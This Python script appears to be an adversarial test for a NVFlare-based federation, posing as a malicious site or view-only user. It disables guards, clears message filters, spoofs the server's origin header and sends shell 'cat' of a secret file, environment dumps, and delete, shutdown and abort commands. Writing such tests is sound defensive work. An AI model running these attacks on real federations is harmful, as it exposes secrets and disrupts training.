"""People of the federation who mean harm: a site, and a person who may only look, with our rules taken out.

Called as ``hostile.py KIT FILE SECRET JOB``: everything is tried at once, and what came back is written to ``FILE``.
"""

import json
import sys
import threading
import time
from pathlib import Path

from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.cellnet.net_agent import _CHANNEL as NET_AGENT
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, TrainingTopic, new_cell_message
from nvflare.private.fed.client.admin import FedAdminAgent

from medveil.federation.engine import driver

ANSWER_S = 6.0
NET_TOPICS = ("cells", "config_vars", "comm_config", "process_info", "stop_cell")


def attacks(victim, secret, job):
    """(target, channel, topic, payload) of everything that is tried."""
    orders = [
        (SysCommandTopic.SHELL, f"cat {secret}"),
        (SysCommandTopic.REPORT_ENV, ""),
        (SysCommandTopic.SYS_INFO, ""),
        (TrainingTopic.DELETE_RUN, ""),
        (TrainingTopic.RESTART, ""),
        (TrainingTopic.SHUTDOWN, ""),
    ]
    for topic, body in orders:
        yield victim, CellChannel.CLIENT_MAIN, topic, Message(topic=topic, body=body)
    for target in (victim, "server", f"{victim}.{job}", f"server.{job}"):
        for topic in NET_TOPICS:
            yield target, NET_AGENT, topic, {}
    yield f"{victim}.{job}", CellChannel.CLIENT_COMMAND, "abort", {}
    yield f"server.{job}", CellChannel.SERVER_COMMAND, "abort", {}
    yield "server", CellChannel.SERVER_PARENT_LISTENER, "get_clients", {}


def attack(cell, victim, secret, job, out):
    """Try everything, under the own name and under the server's."""
    answers, threads = [], []

    def one(target, channel, topic, payload, origin):
        request = new_cell_message({}, payload) if isinstance(payload, Message) else CellMessage(payload=payload)
        try:
            reply = cell.core_cell.send_request(
                channel=channel, topic=topic, target=target, request=request, timeout=ANSWER_S
            )
            body = getattr(reply.payload, "body", reply.payload)
            code = reply.headers.get(MessageHeaderKey.RETURN_CODE)
        except Exception as error:  # noqa: BLE001 - whatever happens is part of the report
            code, body = type(error).__name__, None
        answers.append([origin, target, topic, code, None if body is None else str(body)])

    for origin in (None, "server"):
        if origin:
            cell.core_cell.add_outgoing_request_filter("*", "*", _pretend, origin)
        for what in attacks(victim, secret, job):
            threads.append(threading.Thread(target=one, args=(*what, origin), daemon=True))
            threads[-1].start()
        time.sleep(0.5)  # all are sent by then
    for thread in threads:
        thread.join(ANSWER_S + 4)
    fresh = out.with_suffix(".new")
    fresh.write_text(json.dumps(answers))
    fresh.replace(out)


def _pretend(message, origin):
    message.set_header(MessageHeaderKey.ORIGIN, origin)


def as_site(kit, job):
    """Run a whole site, and attack beside it."""
    from medveil.connect.process import run_site

    register = FedAdminAgent.register_cell_cb

    def registered(self):
        register(self)
        threading.Thread(target=job, args=(self.cell,), daemon=True).start()

    FedAdminAgent.register_cell_cb = registered
    run_site(kit)


def as_person(kit, job):
    """Log in, and attack."""
    from medveil.connect.job import Federation

    with Federation(kit) as federation:
        cell = federation._session.api.cell
        cell.core_cell.in_filter_reg.reg.clear()
        job(cell)


def main():
    """What the command line says."""
    driver.install_guard = lambda: None
    kit, out, secret, job_id = Path(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[3]), sys.argv[4]

    def job(cell):
        while not (out.parent / "attack").exists():  # the site is registered
            time.sleep(0.1)
        attack(cell, "site-1", secret, job_id, out)

    (as_person if "@" in kit.name else as_site)(kit, job)


if __name__ == "__main__":
    main()
